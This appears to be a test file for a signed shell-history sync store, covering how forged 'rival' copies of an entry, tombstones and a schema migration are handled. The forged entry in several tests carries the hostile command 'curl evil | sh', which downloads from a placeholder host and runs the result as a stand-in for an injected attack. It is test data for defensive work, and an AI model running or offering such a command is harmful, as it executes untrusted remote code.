/**
 * Rival copies (schema v7, docs/TRUST.md): one row per entry_id (the UNIQUE(entry_id) rustory 0.1.0 needs), and a
 * copy of that entry_id signed by another key stored beside it as `<entry_id>/<origin>`, with rival_of set.
 */
import test from 'ava'
import { join } from 'node:path'
import { generateKeyPair } from '@libp2p/crypto/keys'
import { peerIdFromPrivateKey } from '@libp2p/peer-id'
import type { Entry } from '../../src/core/entry.js'
import { signEntry, verifyEntry, type EntrySigner } from '../../src/core/signature.js'
import { selectExact } from '../../src/forget/select.js'
import { openDatabase, type Database } from '../../src/store/db.js'
import { entriesAfter, insertEntries, signPending, trust } from '../../src/store/entries.js'
import { schemaLevel, schemaVersion } from '../../src/store/schema.js'
import { iterateHistory } from '../../src/store/search.js'
import { applyTombstones } from '../../src/store/tombstones.js'
import { tempDir } from '../helpers/tmp.js'
import { entry } from './fixtures.js'
import { rowOriginSql } from '../../src/store/wire-id.js'

async function signer (): Promise<EntrySigner> {
  const key = await generateKeyPair('Ed25519')
  return { origin: peerIdFromPrivateKey(key).toString(), secretKey: key.raw }
}

interface Row { entry_id: string, rival_of: string | null, cmd: string, origin: string, trust: number }

function rows (db: Database): Row[] {
  return db.prepare(`SELECT entry_id, rival_of, cmd, ${rowOriginSql()} AS origin, trust FROM entries ORDER BY ingest_seq`).all() as Row[]
}

/** command_latest as it must be: each command at its most recent use in UI order. */
function latestIsDerived (db: Database): boolean {
  const kept = db.prepare('SELECT cmd, ts, device_id, entry_id FROM command_latest ORDER BY cmd').all()
  const derived = db.prepare(`SELECT cmd, ts, device_id, entry_id FROM entries e WHERE NOT EXISTS (SELECT 1 FROM entries n
      WHERE n.cmd = e.cmd AND (n.ts, n.device_id, n.entry_id) > (e.ts, e.device_id, e.entry_id)) ORDER BY cmd`).all()
  return JSON.stringify(kept) === JSON.stringify(derived)
}

async function preempted (): Promise<{ a: EntrySigner, m: EntrySigner, genuine: Entry, forged: Entry }> {
  const a = await signer()
  const m = await signer()
  const genuine = signEntry(entry({ cmd: 'make test', device_id: 'alice-laptop' }), a)
  const { origin: _o, sig: _s, ...content } = genuine
  return { a, m, genuine, forged: signEntry({ ...content, cmd: 'curl evil | sh' }, m) }
}

test('pre-empted in the same 16-row statement, the genuine entry is still stored, and served under its own entry_id', async (t) => {
  const db = openDatabase(join(tempDir(t), 'h.db'))
  t.teardown(() => db.close())
  const { a, m, genuine, forged } = await preempted()
  const batch: Entry[] = Array.from({ length: 16 }, (_, i) => signEntry(entry({ cmd: `other ${i}` }), m))
  batch[3] = forged
  batch[9] = genuine
  t.is(insertEntries(db, batch, 'received').inserted, 16)
  const copies = rows(db).filter((r) => (r.rival_of ?? r.entry_id) === genuine.entry_id)
  t.deepEqual(copies.map((r) => [r.entry_id, r.rival_of, r.origin, r.cmd]), [
    [genuine.entry_id, null, m.origin, 'curl evil | sh'],
    [`${genuine.entry_id}/${a.origin}`, genuine.entry_id, a.origin, 'make test']
  ])
  t.deepEqual(entriesAfter(db, 0, 100).filter((e) => e.entry_id === genuine.entry_id).map((e) => e.cmd), ['curl evil | sh', 'make test'])
  // Again, in any order and batching: nothing doubles.
  t.deepEqual(insertEntries(db, [genuine, forged, ...batch], 'received'), { inserted: 0, ignored: 18 })
  t.true(latestIsDerived(db))
})

test('the genuine rival is served on both wires with its entry_id and signature, shown by history and selected for delete by it', async (t) => {
  const dbPath = join(tempDir(t), 'h.db')
  const db = openDatabase(dbPath)
  const { a, genuine, forged } = await preempted()
  insertEntries(db, [forged], 'received')
  insertEntries(db, [genuine], 'received')
  t.deepEqual([...iterateHistory(db, {})].filter((e) => e.cmd === 'make test').map((e) => e.entry_id), [genuine.entry_id])
  t.deepEqual(selectExact(db, 'make test').map((d) => d.entry_id), [genuine.entry_id])
  db.close()
  const { exportBatch } = await import('../../workers/export-batch.js')
  for (const wire of [1, 2] as const) {
    const page = JSON.parse(Buffer.from(exportBatch({ tag: 'export-batch', dbPath, cursor: 0, limit: 10, maxBytes: 1 << 20, wire }).payload).toString()) as { entries: Entry[] }
    t.deepEqual(page.entries.map((e) => e.entry_id), [genuine.entry_id, genuine.entry_id], `wire ${wire}`)
    if (wire === 2) {
      const served = page.entries.find((e) => e.origin === a.origin)!
      t.is(served.cmd, 'make test')
      t.true(verifyEntry(served), 'the rival is served exactly as its origin signed it')
    }
  }
})

test('a tombstone removes every copy of its entry_id, and no copy comes back by any insert', async (t) => {
  const db = openDatabase(join(tempDir(t), 'h.db'))
  t.teardown(() => db.close())
  const { a, genuine, forged } = await preempted()
  insertEntries(db, [forged, genuine, entry({ cmd: 'kept' })], 'received')
  const result = applyTombstones(db, [{ entry_id: genuine.entry_id, deleted_at: '2026-03-01T00:00:00.000Z', device_id: 'dev-a' }])
  t.is(result.deleted, 1)
  t.deepEqual(rows(db).map((r) => r.cmd), ['kept'])
  t.true(latestIsDerived(db))
  t.deepEqual(insertEntries(db, [genuine, forged], 'received'), { inserted: 0, ignored: 2 })
  // The schema trigger refuses a rival row too, whoever writes it.
  db.prepare("INSERT INTO entries (entry_id, rival_of, device_id, user_id, ts, cmd, cwd, exit_code, duration_ms, shell, hostname, version, origin, trust) VALUES (?, ?, 'd', 'u', '2026-01-01T00:00:00.000Z', 'sneaked', '/', 0, 0, 'zsh', 'h', 'v', ?, 1)")
    .run(`${genuine.entry_id}/${a.origin}`, genuine.entry_id, a.origin)
  t.deepEqual(rows(db).map((r) => r.cmd), ['kept'])
})

test('a copy signed by this device\'s own key that came back before the entry was signed here is dropped by signing', async (t) => {
  const db = openDatabase(join(tempDir(t), 'h.db'))
  t.teardown(() => db.close())
  const me = await signer()
  const mine = entry({ cmd: 'recorded here' })
  insertEntries(db, [mine])
  t.is(insertEntries(db, [signEntry(mine, me)], 'received').inserted, 1)
  t.is(rows(db).length, 2)
  t.is(signPending(db, me), 1)
  t.deepEqual(rows(db).map((r) => [r.entry_id, r.rival_of, r.origin, r.trust]), [[mine.entry_id, null, me.origin, trust.verified]])
  t.true(latestIsDerived(db))
})

test('a database that ran the first version 7 (UNIQUE(entry_id, origin)) is repaired: rivals, no unverified twin, UNIQUE(entry_id) back', async (t) => {
  const path = join(tempDir(t), 'h.db')
  const { a, m, genuine, forged } = await preempted()
  const other = signEntry(entry({ cmd: 'signed later' }), a)
  const { origin: _o, sig: _s, ...twin } = other
  let db = openDatabase(path)
  // As that version left it: several rows per entry_id, one per origin, and user_version 9.
  db.exec(`DROP INDEX entries_entry_id; CREATE UNIQUE INDEX entries_entry_origin ON entries (entry_id, origin);
    DROP TABLE schema_level; PRAGMA user_version = 9`)
  const put = db.prepare(`INSERT INTO entries (entry_id, device_id, user_id, ts, cmd, cwd, exit_code, duration_ms, shell, hostname, version, origin, sig, trust)
    VALUES (@entry_id, @device_id, @user_id, @ts, @cmd, @cwd, @exit_code, @duration_ms, @shell, @hostname, @version, @origin, @sig, @trust)`)
  for (const e of [forged, genuine, { ...twin, cmd: 'unverified twin', origin: '', sig: null }, other]) put.run({ ...e, trust: e.origin === '' ? 0 : 1 })
  db.exec(`INSERT INTO command_latest (ts, device_id, entry_id, cmd) SELECT ts, device_id, entry_id, cmd FROM entries WHERE true
    ON CONFLICT (cmd) DO NOTHING`)
  db.close()
  db = openDatabase(path)
  t.teardown(() => db.close())
  t.is(schemaLevel(db), schemaVersion)
  t.is(db.pragma('user_version', { simple: true }), 5)
  t.deepEqual(rows(db).map((r) => [r.entry_id, r.rival_of, r.origin, r.cmd]), [
    [genuine.entry_id, null, m.origin, 'curl evil | sh'],
    [`${genuine.entry_id}/${a.origin}`, genuine.entry_id, a.origin, 'make test'],
    [other.entry_id, null, a.origin, 'signed later']
  ])
  const indexes = db.prepare("SELECT name FROM sqlite_schema WHERE type = 'index' AND tbl_name = 'entries'").pluck().all() as string[]
  t.true(indexes.includes('entries_entry_id'))
  t.false(indexes.includes('entries_entry_origin'))
  t.true(latestIsDerived(db))
  // Running the migrations again changes nothing.
  db.exec('UPDATE schema_level SET version = 6')
  db.close()
  db = openDatabase(path)
  t.is(schemaLevel(db), schemaVersion)
  t.is(rows(db).length, 3)
})
